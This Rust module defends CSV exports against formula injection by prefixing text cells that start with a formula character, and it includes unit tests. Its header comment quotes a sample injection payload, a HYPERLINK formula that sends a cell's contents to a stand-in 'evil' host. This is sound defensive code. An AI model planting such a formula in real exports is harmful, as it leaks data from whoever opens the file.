//! CSV formula-injection defence (issue 8, defect 7), for every CSV the project writes.
//!
//! A spreadsheet opening a CSV runs a cell that starts with `=`, `+`, `-` or `@` as a formula
//! (and some also treat a leading tab or carriage return that way), so a hostname such as
//! `=HYPERLINK("http://evil/?"&A1)` in an export becomes an attack on the analyst. As OWASP
//! recommends, such a **text** cell is written with a leading `'`, which spreadsheets show as
//! text and do not evaluate. Numbers the program formats itself (`-1`, the failure sentinel)
//! are not text from a sender and stay as they are: pass only text cells through
//! [`neutralise`].

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
pub const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell made safe to open in a spreadsheet: prefixed with `'` when it starts with one
/// of [`FORMULA_TRIGGERS`], unchanged otherwise.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_TRIGGERS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_prefixed_and_others_kept() {
        for cell in [
            "=HYPERLINK(\"x\")",
            "+SUM(1+1)",
            "-2+3",
            "@cmd",
            "\tx",
            "\rx",
        ] {
            assert_eq!(neutralise(cell), format!("'{cell}"));
        }
        for cell in ["gitlab.example.com", "18.9.0", "", "a=b", "'quoted"] {
            assert_eq!(neutralise(cell), cell);
        }
    }
}
